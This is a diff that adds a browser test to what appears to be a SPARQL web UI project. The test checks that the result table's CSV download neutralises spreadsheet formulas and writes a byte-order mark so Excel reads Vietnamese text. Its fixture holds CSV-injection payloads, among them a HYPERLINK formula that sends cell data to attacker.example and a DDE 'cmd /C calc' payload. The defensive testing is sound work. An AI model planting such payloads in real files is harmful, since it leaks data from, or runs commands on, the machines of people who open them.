@@ -915,3 +915,35 @@ def test_a_shared_link_sends_only_its_query_to_our_endpoint(browser, writable_ur
         timeout=30,
     )
     assert admin.status_code == 200
+
+
+HOSTILE_CELLS = """SELECT ?cell WHERE { VALUES ?cell {
+  "=HYPERLINK(\\"http://attacker.example/?d=\\"&A3,\\"Bấm vào đây\\")"
+  "+cmd|' /C calc'!A0" "@SUM(1+1)" "- Sở Tài chính chủ trì" "-5" "Sở Công Thương, \\"Hà Nội\\"" } }"""
+
+
+def test_the_query_uis_csv_download_neutralises_formulas(page, url):
+    """(stop 19) The result table's download is YASR's own CSV, made in the browser: before, each
+    value went out as it was, so a cell of a result (a document's text, or a shared link's
+    VALUES) opening with = + - or @ was a formula when the analyst opened the file in Excel.  Now
+    such a cell opens with an apostrophe (a signed number is left a number), as the server's CSV
+    exports do, and the file opens with a byte-order mark so Excel reads Vietnamese."""
+    page.goto(url + "/sparql-ui")
+    page.wait_for_selector(".yasqe .CodeMirror")
+    page.evaluate("(q) => { window.policyGraphYasgui.getTab().setQuery(q); }", HOSTILE_CELLS)
+    page.click(".yasqe_queryButton")
+    expect(page.locator(".yasr table tbody tr")).to_have_count(6, timeout=15000)
+    with page.expect_download() as download:
+        page.click(".yasr_downloadIcon")
+    text = Path(download.value.path()).read_bytes().decode("utf-8-sig")
+    assert text.split("\r\n") == [
+        "cell",
+        '"\'=HYPERLINK(""http://attacker.example/?d=""&A3,""Bấm vào đây"")"',
+        "'+cmd|' /C calc'!A0",
+        "'@SUM(1+1)",
+        "'- Sở Tài chính chủ trì",
+        "-5",
+        '"Sở Công Thương, ""Hà Nội"""',
+        "",
+    ]
+    assert Path(download.value.path()).read_bytes().startswith(b"\xef\xbb\xbf")
